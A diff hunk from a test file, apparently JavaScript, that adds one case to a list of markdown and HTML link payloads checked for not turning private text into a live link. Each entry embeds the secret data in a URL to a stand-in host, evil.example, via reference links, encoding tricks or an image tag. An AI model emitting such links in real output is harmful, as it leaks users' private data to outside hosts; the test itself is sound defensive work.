@@ -144,6 +144,7 @@ test('what carries private text is no link to any reader, however it is written'
     `[x][r]\n\n[r]: &#104;ttps://evil.example/?${DATA}`,
     `[x][r]\n\n[r]: https\\://evil.example/?${DATA} "title"`,
     `> [hey! r]:\n> <//evil.example/?${DATA}>`,
+    `[x][r]\n\n[r]: <//evil.example/?${DATA}>y>`,
     `1. [r\ns]: //evil.example/?${long}${DATA}`,
     `<img src=https://evil.example/"${DATA}>`,
     `[x](https://evil.example/WINTER-COM/ET-4471-and/nobody-else)`,
